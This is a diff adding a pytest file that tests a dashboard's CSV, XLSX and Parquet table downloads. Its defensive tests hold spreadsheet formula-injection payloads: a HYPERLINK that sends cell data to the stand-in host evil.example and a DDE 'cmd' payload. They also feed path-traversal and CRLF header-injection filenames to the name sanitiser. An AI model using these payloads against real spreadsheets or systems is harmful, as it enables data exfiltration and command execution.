@@ -1,0 +1,424 @@
+"""Every table a page offers for download comes as CSV, XLSX and Parquet (issue 15).
+
+The page downloads are called as the browser calls them: a POST to Dash's callback endpoint with
+the clicked format button as the trigger, on an app that registers only the pages (the shell and
+the API stay out of it). Each format opens with its usual reader (pandas for CSV, openpyxl and
+pandas for XLSX, pyarrow for Parquet) and holds the CSV's columns and rows; the three file names
+differ only in their extension. Formula injection: a text cell starting with "=" gets a leading
+quote in CSV and is stored as text, never as a formula, in XLSX.
+"""
+
+from __future__ import annotations
+
+import base64
+import datetime as dt
+import io
+import math
+import warnings
+
+import dash
+import numpy as np
+import pandas as pd
+import pyarrow.parquet as pq
+import pytest
+from dash import html
+from openpyxl import load_workbook
+
+from dashboard import ids
+from dashboard import legislation_data as ld
+from dashboard.components.downloads import (
+    FORMATS,
+    chosen_format,
+    clicked,
+    csv_download,
+    download_control,
+    download_name,
+    format_id,
+    group_id,
+    table_download,
+)
+from dashboard.config import Settings
+from dashboard.context import AppContext
+from dashboard.pages import heatmap, legislation, maps, policy, profile, roadmap, survey_progress
+
+MIMETYPES = {"csv": "text/csv",
+             "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
+             "parquet": "application/vnd.apache.parquet"}
+ENSCHEDE = "NL_GM0153"  # consented, answered in 2025 and 2026, in the eGov benchmark
+AT = "2026-07-01"
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A2,"click")', "=1+1", "+cmd|' /C calc'!A0",
+           "-2+3", "@SUM(A1:A9)", "\t=1+1"]
+TRIGGERS = tuple("=+-@\t\r")
+
+
+# ------------------------------------------------------------------ reading the files
+
+
+def _bytes(sent: dict) -> bytes:
+    return base64.b64decode(sent["content"]) if sent["base64"] else sent["content"].encode()
+
+
+def read(fmt: str, data: bytes) -> pd.DataFrame:
+    if fmt == "csv":
+        return pd.read_csv(io.BytesIO(data), keep_default_na=False)
+    if fmt == "xlsx":
+        with warnings.catch_warnings():
+            warnings.simplefilter("error")  # a complete workbook: no "no default style" etc.
+            wb = load_workbook(io.BytesIO(data))
+        assert wb.sheetnames == ["data"]
+        formulas = [c.coordinate for row in wb["data"].iter_rows() for c in row
+                    if c.data_type == "f"]
+        assert not formulas
+        return pd.read_excel(io.BytesIO(data), engine="openpyxl", keep_default_na=False)
+    return pq.read_table(io.BytesIO(data)).to_pandas()
+
+
+def _plain(value):
+    """A cell as the three formats can agree on it: null for missing or empty, bools, numbers
+    as rounded floats (CSV and XLSX do not keep "2026" apart from 2026), text unquoted (the CSV's
+    leading quote before a formula character is how CSV keeps the same text)."""
+    if isinstance(value, np.generic):
+        value = value.item()
+    if value is None or value is pd.NA or value is pd.NaT:
+        return None
+    if isinstance(value, float):
+        return None if math.isnan(value) else round(value, 9)
+    if isinstance(value, bool):
+        return value
+    if isinstance(value, int):
+        return float(value)
+    if isinstance(value, (dt.date, pd.Timestamp)):
+        value = value.isoformat()
+    value = str(value)
+    if value == "":
+        return None
+    if value in ("True", "False"):
+        return value == "True"
+    if value[:1] == "'" and value[1:2] in TRIGGERS:
+        value = value[1:]
+    try:
+        return round(float(value), 9)
+    except ValueError:
+        return value
+
+
+def assert_same_table(csv: pd.DataFrame, other: pd.DataFrame, fmt: str) -> None:
+    assert [str(c) for c in other.columns] == [str(c) for c in csv.columns], fmt
+    assert len(other) == len(csv), fmt
+    for col in range(csv.shape[1]):
+        pairs = zip(csv.iloc[:, col].tolist(), other.iloc[:, col].tolist(), strict=True)
+        bad = [(i, a, b) for i, (a, b) in enumerate(pairs) if _plain(a) != _plain(b)]
+        assert not bad, (fmt, csv.columns[col], bad[:5])
+
+
+def assert_three_formats(sent: dict[str, dict]) -> pd.DataFrame:
+    """The CSV, XLSX and Parquet of one download hold the same table; returns the CSV."""
+    names = {fmt: s["filename"] for fmt, s in sent.items()}
+    stems = {n.rsplit(".", 1)[0] for n in names.values()}
+    assert len(stems) == 1, names  # one name, three extensions
+    for fmt, s in sent.items():
+        assert s["filename"].endswith("." + fmt) and s["type"] == MIMETYPES[fmt], s["filename"]
+        assert s["base64"] is (fmt != "csv")
+    tables = {fmt: read(fmt, _bytes(s)) for fmt, s in sent.items()}
+    csv = tables["csv"]
+    assert len(csv.columns) > 1
+    for fmt in ("xlsx", "parquet"):
+        assert_same_table(csv, tables[fmt], fmt)
+    return csv
+
+
+# ------------------------------------------------------------------ the callbacks, as posted
+
+
+def pages_client(ctx: AppContext, *pages):
+    """A Flask test client of a Dash app with only these pages' callbacks."""
+    app = dash.Dash(__name__, suppress_callback_exceptions=True)
+    app.layout = html.Div()
+    for page in pages:
+        page.register(app, ctx)
+    return app.server.test_client()
+
+
+def post(client, download_id: str, button: str, values: dict) -> dict | None:
+    """Click `button` as the browser does; what the dcc.Download `download_id` gets (None when
+    the callback sent nothing)."""
+    deps = client.get("/_dash-dependencies").get_json()
+    spec = next(d for d in deps if d["output"] == f"{download_id}.data")
+    inputs = [{**i, "value": int(i["id"] == button)} for i in spec["inputs"]]
+    assert button in {i["id"] for i in inputs}, (button, inputs)
+    state = [{**s, "value": values.get(s["id"])} for s in spec["state"]]
+    r = client.post("/_dash-update-component", json={
+        "output": spec["output"], "outputs": {"id": download_id, "property": "data"},
+        "inputs": inputs, "state": state, "changedPropIds": [f"{button}.n_clicks"]})
+    if r.status_code == 204:
+        return None
+    assert r.status_code == 200, r.get_data(as_text=True)[:500]
+    return r.get_json()["response"][download_id]["data"]
+
+
+def post_every_format(client, download_id: str, csv_button: str, values: dict) -> dict:
+    return {fmt: post(client, download_id, format_id(csv_button, fmt), values) for fmt in FORMATS}
+
+
+@pytest.fixture(scope="module")
+def nl_pages(nl_open_ctx, monkeypatch_module):
+    # the legislation page evaluates at "today": the same date every year this test runs
+    monkeypatch_module.setattr(ld, "today", lambda: dt.date.fromisoformat(AT))
+    return pages_client(nl_open_ctx, heatmap, legislation, maps, policy, profile, roadmap)
+
+
+@pytest.fixture(scope="module")
+def monkeypatch_module():
+    with pytest.MonkeyPatch.context() as mp:
+        yield mp
+
+
+HEATMAP = {heatmap.COUNTRY: "NL", heatmap.NUTS2: "NL31", heatmap.SIZE: "all", heatmap.PEERS: None,
+           heatmap.WAVE: "2026", heatmap.SORT: "overall", heatmap.MODE: "municipalities"}
+LEGISLATION = {legislation.COUNTRY: "NL", legislation.NUTS2: None, legislation.SIZE: None,
+               legislation.AT: AT, legislation.HORIZON: None, legislation.PICKER: ENSCHEDE,
+               legislation.CONDITIONS: [], legislation.NIS2: None}
+MAPS = {maps.MEASURE: "ALL", maps.STAT: "median", maps.WAVE: "2026", maps.LEVEL: "country",
+        maps.COUNTRY: "NL"}
+POLICY = {policy.COUNTRY: "NL", policy.NUTS2: None, policy.SIZE: None, policy.MEASURE: "per"}
+PROFILE = {profile.VIEW: "blocks", profile.PICKER: ENSCHEDE, profile.WAVE: "2026",
+           profile.PEERS: "country_size", profile.CUSTOM: []}
+ROADMAP = {roadmap.PICKER: ENSCHEDE, roadmap.WAVE: "2026", roadmap.TARGET: 3, roadmap.DONE: [],
+           **{roadmap.WEIGHT[c]: w for c, w in zip(roadmap.COMPONENTS, roadmap.DEFAULT_WEIGHTS.raw(),
+                                                   strict=True)}}
+
+# (page download, its dcc.Download, the CSV button of its control, the state it reads)
+NL_DOWNLOADS = [
+    ("heatmap", heatmap.CSV_DOWNLOAD, heatmap.CSV_BUTTON, HEATMAP),
+    ("heatmap-regions", heatmap.CSV_DOWNLOAD, heatmap.CSV_BUTTON,
+     {**HEATMAP, heatmap.NUTS2: "all", heatmap.MODE: "regions"}),
+    ("legislation-readiness", legislation.AGG_CSV, legislation.AGG_CSV_BUTTON, LEGISLATION),
+    ("legislation-heatmap", legislation.HEAT_CSV, legislation.HEAT_CSV_BUTTON, LEGISLATION),
+    ("legislation-municipality", legislation.MUN_CSV, legislation.MUN_CSV_BUTTON, LEGISLATION),
+    *[(f"maps-{kind}", maps.download_id(kind), maps.download_button_id(kind), MAPS)
+      for kind in maps.DOWNLOADS],
+    *[(f"policy-{policy._WHICH[b]}", policy.DOWNLOAD, b, POLICY) for b in policy.CSV_BUTTONS],
+    *[(f"profile-{kind}", target, button, PROFILE) for kind, button, target in profile.DOWNLOADS],
+    ("roadmap", roadmap.CSV, roadmap.CSV_BUTTON, ROADMAP),
+]
+
+
+@pytest.mark.parametrize(("download_id", "button", "values"),
+                         [case[1:] for case in NL_DOWNLOADS], ids=[c[0] for c in NL_DOWNLOADS])
+def test_every_page_download_in_every_format(nl_pages, download_id, button, values):
+    sent = post_every_format(nl_pages, download_id, button, {**values, ids.LANG: "en"})
+    assert all(s is not None for s in sent.values()), sent
+    csv = assert_three_formats(sent)
+    assert len(csv) > 0
+
+
+def test_the_csv_button_downloads_what_it_always_did(nl_open_ctx, nl_pages):
+    """The CSV button keeps its id and its file: the page function's CSV, byte for byte."""
+    sent = post(nl_pages, heatmap.CSV_DOWNLOAD, heatmap.CSV_BUTTON, {**HEATMAP, ids.LANG: "en"})
+    direct = heatmap.download(nl_open_ctx, *HEATMAP.values(), "en")
+    assert sent == direct and sent["filename"] == "ds4e-heatmap-NL-NL31-2026-municipalities.csv"
+    xlsx = heatmap.download(nl_open_ctx, *HEATMAP.values(), "en", "xlsx")
+    assert xlsx["filename"] == "ds4e-heatmap-NL-NL31-2026-municipalities.xlsx"
+
+
+def test_a_hostile_cell_on_a_page(nl_pages, monkeypatch):
+    """A page table whose text starts with a formula character: quoted in CSV, text in XLSX."""
+    hostile = pd.DataFrame({"municipality_id": [f"NL_GM{i:04d}" for i in range(len(HOSTILE))],
+                            "explanation": HOSTILE, "score": np.linspace(0.1, 0.6, len(HOSTILE))})
+    monkeypatch.setattr(roadmap, "roadmap_csv", lambda *a, **k: hostile.copy())
+    sent = post_every_format(nl_pages, roadmap.CSV, roadmap.CSV_BUTTON, {**ROADMAP, ids.LANG: "en"})
+    assert_three_formats(sent)
+    csv = pd.read_csv(io.StringIO(sent["csv"]["content"]), keep_default_na=False)
+    assert csv["explanation"].tolist() == ["'" + h for h in HOSTILE]
+    assert_text_cells(_bytes(sent["xlsx"]), "explanation", HOSTILE)
+    assert pq.read_table(io.BytesIO(_bytes(sent["parquet"])))["explanation"].to_pylist() == HOSTILE
+
+
+def assert_text_cells(xlsx: bytes, column: str, expected: list[str]) -> None:
+    ws = load_workbook(io.BytesIO(xlsx))["data"]
+    col = [c.value for c in ws[1]].index(column)
+    cells = [row[col] for row in ws.iter_rows(min_row=2, max_row=len(expected) + 1)]
+    for cell, value in zip(cells, expected, strict=True):
+        assert cell.data_type == "s" and cell.value == value, (cell.coordinate, cell.value)
+        assert cell.number_format == "@" and cell.quotePrefix  # stays text when edited
+
+
+def test_nothing_to_download_sends_nothing_in_any_format(nl_pages):
+    """A roadmap that cannot be computed (no municipality) sends no file, whatever the format."""
+    for fmt in FORMATS:
+        assert post(nl_pages, roadmap.CSV, format_id(roadmap.CSV_BUTTON, fmt),
+                    {**ROADMAP, roadmap.PICKER: None, ids.LANG: "en"}) is None
+
+
+# ------------------------------------------------------------------ survey progress
+
+
+@pytest.fixture(scope="module")
+def survey(tmp_path_factory):
+    """A data folder with an open wave: two municipalities invited, one of them has answered."""
+    from pipelines.survey.records import submit
+    from pipelines.survey.sheet import Answer, Sheet
+
+    ctx = AppContext.load(Settings.from_env(
+        {"DS4E_DATA_DIR": str(tmp_path_factory.mktemp("survey-downloads"))}))
+    now = dt.datetime.now(dt.UTC)
+    _, coordinator = ctx.survey.create_wave("2026", closes_at=now + dt.timedelta(days=30),
+                                            title="Downloads", now=now)
+    links = ctx.survey.invite("2026", ["NL_GM0363", "NL_GM0344"], ["cio"], now=now)
+    submit(ctx.survey, ctx.survey.open_link(links[0].token, now=now),
+           Sheet({"STR-01": Answer(3)}), ["STR-01", "STR-02"], now=now)
+    return ctx, coordinator
+
+
+@pytest.mark.parametrize("button", survey_progress.CSV_BUTTONS)
+def test_survey_progress_downloads_in_every_format(survey, button):
+    ctx, coordinator = survey
+    client = pages_client(ctx, survey_progress)
+    values = {survey_progress.BY: "country", survey_progress.TOKEN: coordinator, ids.LANG: "nl"}
+    sent = post_every_format(client, survey_progress.DOWNLOAD, button, values)
+    csv = assert_three_formats(sent)
+    assert len(csv) > 0 and coordinator not in sent["csv"]["content"]
+    # the page function the callback calls, directly
+    direct = survey_progress.send(ctx, format_id(button, "parquet"), coordinator, "country", "nl")
+    assert direct["filename"] == sent["parquet"]["filename"]
+    # without the coordinator's token: nothing, in any format
+    for fmt in FORMATS:
+        assert post(client, survey_progress.DOWNLOAD, format_id(button, fmt),
+                    {**values, survey_progress.TOKEN: "A" * 32}) is None
+
+
+# ------------------------------------------------------------------ the control on every page
+
+
+def _controls(ctx, lang):
+    """(page, layout, the CSV button ids it must offer in three formats)."""
+    yield heatmap, heatmap.layout(ctx, lang, {"country": "NL"}), [heatmap.CSV_BUTTON]
+    yield legislation, legislation.layout(ctx, lang, {"country": "NL"}), [
+        legislation.AGG_CSV_BUTTON, legislation.HEAT_CSV_BUTTON, legislation.MUN_CSV_BUTTON]
+    yield maps, maps.layout(ctx, lang), [maps.download_button_id(k) for k in maps.DOWNLOADS]
+    yield policy, policy.layout(ctx, lang, {"country": "NL"}), list(policy.CSV_BUTTONS)
+    yield profile, profile.layout(ctx, lang, {"m": ENSCHEDE}), [b for _, b, _ in profile.DOWNLOADS]
+    yield roadmap, roadmap.layout(ctx, lang, {"m": ENSCHEDE}), [roadmap.CSV_BUTTON]
+
+
+@pytest.mark.parametrize(("lang", "label"), [("nl", "Downloaden"), ("en", "Download")])
+def test_every_page_offers_three_formats_in_a_labelled_group(nl_open_ctx, tree, lang, label):
+    for page, layout, buttons in _controls(nl_open_ctx, lang):
+        for csv_id in buttons:
+            (group,) = tree.find(layout, id=group_id(csv_id))
+            assert type(group).__name__ == "Fieldset", (page.__name__, csv_id)
+            legend = [c for c in tree.walk(group) if type(c).__name__ == "Legend"]
+            assert len(legend) == 1 and tree.text(legend[0]).startswith(label), csv_id
+            found = [tree.find(group, id=format_id(csv_id, fmt)) for fmt in FORMATS]
+            assert all(len(f) == 1 for f in found), (page.__name__, csv_id)
+            found = [f[0] for f in found]
+            assert [tree.text(b) for b in found] == ["CSV", "XLSX", "Parquet"]
+            assert all(type(b).__name__ == "Button" and b.type == "button" and b.title
+                       for b in found)
+
+
+def test_survey_progress_offers_three_formats(survey, tree):
+    ctx, coordinator = survey
+    page = survey_progress.layout(ctx, "en", {"token": coordinator})
+    for csv_id, label in ((survey_progress.CSV_RATES, "Download rates"),
+                          (survey_progress.CSV_NON_RESPONDERS, "Download non-responders"),
+                          (survey_progress.CSV_ALL, "Download all municipalities")):
+        (group,) = tree.find(page, id=group_id(csv_id))
+        assert tree.text(group).startswith(label)
+        assert all(tree.find(group, id=format_id(csv_id, fmt)) for fmt in FORMATS)
+
+
+def test_several_controls_on_a_page_name_their_table(nl_open_ctx, tree):
+    """Screen readers hear which table a control downloads; the card title shows it to the eye."""
+    page = maps.layout(nl_open_ctx, "en")
+    (group,) = tree.find(page, id=group_id(maps.download_button_id("regions")))
+    assert tree.text(group).startswith("Download")
+    hidden = tree.find(group, className="visually-hidden")
+    assert [tree.text(h) for h in hidden] == [" (all regions)"]
+
+
+# ------------------------------------------------------------------ table_download itself
+
+
+def test_table_download_writes_each_format_with_its_extension():
+    df = pd.DataFrame({"name": ["Enschede", "Groningen"], "level": [3, 1],
+                       "share": [0.25, np.nan], "flag": [True, False]})
+    for fmt in FORMATS:
+        sent = table_download(df, "ds4e-x-NL-2026.csv", fmt)
+        assert sent["filename"] == f"ds4e-x-NL-2026.{fmt}" and sent["type"] == MIMETYPES[fmt]
+    sent = {fmt: table_download(df, "ds4e-x-NL-2026.csv", fmt) for fmt in FORMATS}
+    assert_three_formats(sent)
+    parquet = pq.read_table(io.BytesIO(_bytes(sent["parquet"]))).to_pandas()
+    assert parquet["level"].dtype.kind == "i" and parquet["flag"].dtype == bool  # typed
+
+
+@pytest.mark.parametrize(("name", "fmt", "expected"), [
+    ("legislation-NL_GM0153.csv", "xlsx", "legislation-NL_GM0153.xlsx"),
+    ("legislation-NL_GM0153", "parquet", "legislation-NL_GM0153.parquet"),
+    ("a/../../etc/passwd.csv", "xlsx", "a_etc_passwd.xlsx"),
+    ("x\r\nSet-Cookie: a=b.CSV", "parquet", "x_Set-Cookie_a_b.parquet"),
+    ("../..", "xlsx", "ds4e.xlsx"),
+    ("report.xlsx", "csv", "report.csv"),
+])
+def test_download_names(name, fmt, expected):
+    assert download_name(name, fmt) == expected
+    assert table_download(pd.DataFrame({"a": [1]}), name, fmt)["filename"] == expected
+
+
+@pytest.mark.parametrize("fmt", ["xls", "XLSX", "", None, "../parquet", {"x": 1}])
+def test_an_unknown_format_is_csv(fmt):
+    sent = table_download(pd.DataFrame({"a": ["=1"]}), "t.csv", fmt)
+    assert sent["filename"] == "t.csv" and sent["content"] == "a\n'=1\n" and not sent["base64"]
+
+
+def test_formulas_are_neutralised_in_csv_and_text_in_xlsx():
+    df = pd.DataFrame({"name": HOSTILE, "level": range(len(HOSTILE))})
+    csv = pd.read_csv(io.StringIO(table_download(df, "t", "csv")["content"]),
+                      keep_default_na=False)
+    assert csv["name"].tolist() == ["'" + h for h in HOSTILE]
+    assert csv["level"].tolist() == list(range(len(HOSTILE)))  # numbers stay numbers
+    assert_text_cells(_bytes(table_download(df, "t", "xlsx")), "name", HOSTILE)
+    parquet = pq.read_table(io.BytesIO(_bytes(table_download(df, "t", "parquet"))))
+    assert parquet["name"].to_pylist() == HOSTILE  # no spreadsheet opens it: the data as is
+    assert csv_download(df, "t.csv") == table_download(df, "t.csv", "csv")
+
+
+def test_columns_arrow_cannot_type_come_as_their_text():
+    """A column of mixed values or of lists has no flat Arrow type: it comes as text, the same
+    text as in the CSV, instead of failing the download."""
+    df = pd.DataFrame({"mixed": [1, "a", None], "lists": [["NL", "BE"], [], None],
+                       "date": [dt.date(2026, 1, 1), None, dt.date(2027, 6, 28)],
+                       "n": [1, 2, 3]})
+    sent = {fmt: table_download(df, "t.csv", fmt) for fmt in FORMATS}
+    assert_three_formats(sent)
+    parquet = pq.read_table(io.BytesIO(_bytes(sent["parquet"]))).to_pandas()
+    assert parquet["mixed"].tolist()[:2] == ["1", "a"]
+    assert parquet["lists"].tolist()[:2] == ["['NL', 'BE']", "[]"]
+    assert df["mixed"].tolist()[:2] == [1, "a"]  # the caller's frame is left as it was
+
+
+def test_an_empty_table_keeps_its_header_in_every_format():
+    df = pd.DataFrame({"law": pd.Series([], dtype=str), "share": pd.Series([], dtype=float)})
+    for fmt in FORMATS:
+        back = read(fmt, _bytes(table_download(df, "t", fmt)))
+        assert list(back.columns) == ["law", "share"] and len(back) == 0, fmt
+
+
+def test_which_button_was_clicked():
+    a, b = "policy-csv-leverage", "policy-csv-lobby"
+    assert clicked(a, a, b) == (a, "csv")
+    assert clicked(f"{b}-xlsx", a, b) == (b, "xlsx")
+    assert clicked(f"{b}-parquet", a, b) == (b, "parquet")
+    assert clicked("policy-country", a, b) is None and clicked(None, a) is None
+    assert chosen_format(f"{a}-parquet", a) == "parquet"
+    assert chosen_format({"type": "x"}, a) == "csv"
+
+
+def test_the_control_can_be_disabled_and_relabelled(tree):
+    control = download_control("t-csv", "nl", label="Download respons", disabled=True,
+                               color="primary", outline=False)
+    assert control.disabled and control.id == group_id("t-csv")
+    assert tree.text(control).startswith("Download respons")
+    assert [b.className for b in tree.find(control, type="button")] == ["btn btn-primary"] * 3
+    titles = [b.title for b in tree.find(control, type="button")]
+    assert titles[1] == "XLSX: Excel-werkmap" and titles[2].startswith("Parquet:")
